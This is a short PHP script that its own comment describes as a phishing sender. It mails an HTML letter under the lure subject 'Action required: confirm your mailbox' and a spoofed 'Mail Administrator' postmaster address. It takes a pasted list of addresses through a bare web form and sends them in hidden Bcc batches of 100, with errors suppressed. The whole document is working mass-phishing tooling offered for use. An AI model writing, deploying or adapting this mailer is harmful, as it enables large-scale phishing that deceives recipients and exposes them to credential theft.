<?php
// A phishing sender's loop: its own subject and letter, the posted address list hidden in a Bcc:
// header, a hundred addresses a message.
error_reporting(0);
$letter = file_get_contents(__DIR__ . '/letter.html');
$subject = 'Action required: confirm your mailbox';
$from = 'Mail Administrator <postmaster@' . $_SERVER['HTTP_HOST'] . '>';
if (!empty($_POST['list'])) {
    $all = preg_split('/[\r\n,;]+/', $_POST['list']);
    foreach (array_chunk($all, 100) as $batch) {
        $headers = "MIME-Version: 1.0\r\n";
        $headers .= "Content-type: text/html; charset=utf-8\r\n";
        $headers .= "From: $from\r\n";
        $headers .= "Bcc: " . implode(', ', $batch) . "\r\n";
        @mail('postmaster@localhost', $subject, $letter, $headers);
        echo count($batch) . " sent<br>";
    }
}
?>
<form method="post"><textarea name="list"></textarea><input type="submit"></form>
